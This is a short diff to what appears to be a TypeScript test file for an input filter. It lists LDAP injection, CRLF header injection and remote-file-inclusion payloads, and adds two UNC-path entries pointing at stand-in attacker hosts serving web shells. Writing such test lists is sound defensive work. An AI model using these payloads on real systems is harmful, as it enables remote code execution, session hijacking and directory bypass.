@@ -21,7 +21,8 @@ const ATTACKS: Record<string, string[]> = {
   ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
   crlf: ['foo\r\nSet-Cookie: session=attacker', 'x%0d%0aLocation:%20http://evil.example'],
   rfi: ['http://203.0.113.66/shell.txt?', 'https://evil.example/shell.php?', 'http://good.example/:x@evil.example/', 'http://a@b@evil.example/', 'http://good.example\\@evil.example/', 'http://good.example#@evil.example',
-    '//evil.example/shell.txt?', 'http:evil.example/shell.txt?', 'http://evil.example/shell.txt%00', 'http://localhost%00.evil.example/', 'http://evil.example%23.trusted.example/'],
+    '//evil.example/shell.txt?', 'http:evil.example/shell.txt?', 'http://evil.example/shell.txt%00', 'http://localhost%00.evil.example/', 'http://evil.example%23.trusted.example/',
+    '\\\\evil.example\\share\\shell.php', '\\\\203.0.113.7\\x\\cmd.asp'],
 };
 
 const BENIGN: string[] = [
